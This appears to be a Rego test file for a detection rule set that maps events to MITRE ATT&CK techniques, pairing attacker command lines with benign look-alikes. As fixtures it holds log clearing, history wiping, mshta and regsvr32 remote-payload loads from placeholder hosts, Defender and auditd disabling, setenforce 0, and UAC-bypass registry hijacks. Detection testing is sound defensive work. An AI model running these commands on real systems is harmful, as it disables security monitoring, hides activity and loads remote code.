package mitre_test

test_wevtutil_clear_security_log if {
	ds := _detections(_proc(`C:\Windows\System32\wevtutil.exe`, "wevtutil cl Security", _cmd_exe))
	some d in ds
	d.technique == "T1070.001"
	d.tactic == "defense-evasion"
}

test_wevtutil_query_is_benign if {
	count(_found(_proc(`C:\Windows\System32\wevtutil.exe`, `wevtutil qe Security /c:5 /rd:true /f:text`, _cmd_exe))) == 0
}

test_wevtutil_export_is_benign if {
	count(_found(_proc(`C:\Windows\System32\wevtutil.exe`, `wevtutil epl System C:\backup\system.evtx`, _cmd_exe))) == 0
}

test_clear_eventlog_script_block if {
	"T1070.001" in _found(_block("Clear-EventLog -LogName Security,System,Application"))
}

test_get_eventlog_is_benign if {
	count(_found(_block("Get-EventLog -LogName System -Newest 20"))) == 0
}

test_history_cleared if {
	"T1070.003" in _found(_proc("/usr/bin/bash", "bash -c unset HISTFILE; history -c", "/usr/sbin/sshd"))
}

test_history_read_is_benign if {
	count(_found(_proc("/usr/bin/grep", "grep ssh /home/alice/.bash_history", "/usr/bin/bash"))) == 0
}

test_history_file_deleted if {
	"T1070.003" in _found(_ev({"event": "file", "action": "delete", "file": {"path": "/root/.bash_history"}}))
}

test_history_file_appended_is_benign if {
	count(_found(_ev({"event": "file", "action": "modify", "file": {"path": "/home/alice/.bash_history", "size": 18234}}))) == 0
}

test_mshta_remote_hta if {
	"T1218.005" in _found(_proc(`C:\Windows\System32\mshta.exe`, "mshta.exe http://198.51.100.7/payload.hta", _explorer))
}

test_mshta_local_installer_is_benign if {
	count(_found(_proc(`C:\Windows\System32\mshta.exe`, `mshta.exe "C:\Program Files\Vendor\setup.hta"`, _explorer))) == 0
}

test_regsvr32_squiblydoo if {
	"T1218.010" in _found(_proc(`C:\Windows\System32\regsvr32.exe`, "regsvr32 /s /n /u /i:http://198.51.100.7/file.sct scrobj.dll", _cmd_exe))
}

test_regsvr32_system_dll_is_benign if {
	count(_found(_proc(`C:\Windows\System32\regsvr32.exe`, `regsvr32 /s C:\Windows\System32\msxml3.dll`, _cmd_exe))) == 0
}

test_rundll32_javascript if {
	"T1218.011" in _found(_proc(`C:\Windows\System32\rundll32.exe`, `rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://x/a")`, _cmd_exe))
}

test_rundll32_dll_in_temp if {
	"T1218.011" in _found(_proc(`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Users\bob\AppData\Local\Temp\x64.dll,DllRegisterServer`, _explorer))
}

test_rundll32_printui_is_benign if {
	count(_found(_proc(`C:\Windows\System32\rundll32.exe`, `rundll32 printui.dll,PrintUIEntry /in /n\\printsrv\floor2`, _explorer))) == 0
}

test_defender_realtime_disabled if {
	"T1562.001" in _found(_proc(_powershell, "powershell Set-MpPreference -DisableRealtimeMonitoring $true", _cmd_exe))
}

test_defender_realtime_reenabled_is_benign if {
	count(_found(_proc(_powershell, "powershell Set-MpPreference -DisableRealtimeMonitoring $false", _cmd_exe))) == 0
}

test_defender_exclusion_added if {
	"T1562.001" in _found(_block("Add-MpPreference -ExclusionPath 'C:\\Users\\Public'"))
}

test_defender_policy_key if {
	"T1562.001" in _found(_reg("set", `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, ["DWORD (0x00000001)"]))
}

test_defender_policy_key_cleared_is_benign if {
	count(_found(_reg("set", `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, ["DWORD (0x00000000)"]))) == 0
}

test_auditd_stopped if {
	"T1562.001" in _found(_proc("/usr/bin/systemctl", "systemctl stop auditd", "/usr/bin/bash"))
}

test_nginx_restart_is_benign if {
	count(_found(_proc("/usr/bin/systemctl", "systemctl restart nginx", "/usr/bin/bash"))) == 0
}

test_setenforce_0 if {
	"T1562.001" in _found(_proc("/usr/sbin/setenforce", "setenforce 0", "/usr/bin/bash"))
}

test_uac_ms_settings_hijack if {
	ds := _detections(_reg("set", `HKCU\Software\Classes\ms-settings\Shell\Open\command\(Default)`, [`C:\Users\bob\AppData\Local\Temp\e.exe`]))
	some d in ds
	d.technique == "T1548.002"
	d.tactic == "privilege-escalation"
}

test_uac_hijack_under_hku_classes if {
	"T1548.002" in _found(_reg("set", `HKU\S-1-5-21-1004_Classes\mscfile\shell\open\command\(Default)`, [`cmd.exe /c start C:\Users\Public\p.exe`]))
}

test_default_mail_handler_is_benign if {
	count(_found(_reg("set", `HKCU\Software\Classes\mailto\shell\open\command\(Default)`, [`"C:\Program Files\Mozilla Thunderbird\thunderbird.exe" -osint -compose "%1"`]))) == 0
}

test_fodhelper_spawns_shell if {
	"T1548.002" in _found(_proc(_cmd_exe, "cmd.exe", `C:\Windows\System32\fodhelper.exe`))
}

test_unsigned_dll_sideload if {
	"T1574.001" in _found(_ev({"event": "module.load", "process": {"executable": `C:\Windows\System32\svchost.exe`}, "dll": {"path": `C:\Users\Public\wbemcomn.dll`, "code_signature": {"signed": false}}}))
}

test_signed_dll_from_programdata_is_benign if {
	count(_found(_ev({"event": "module.load", "process": {"executable": `C:\Program Files\Windows Defender\MsMpEng.exe`}, "dll": {"path": `C:\ProgramData\Microsoft\Windows Defender\Definition Updates\mpengine.dll`, "code_signature": {"signed": true}}}))) == 0
}

test_unsigned_app_dll_beside_app_is_benign if {
	count(_found(_ev({"event": "module.load", "process": {"executable": `C:\Program Files\Tool\tool.exe`}, "dll": {"path": `C:\Program Files\Tool\plugin.dll`, "code_signature": {"signed": false}}}))) == 0
}
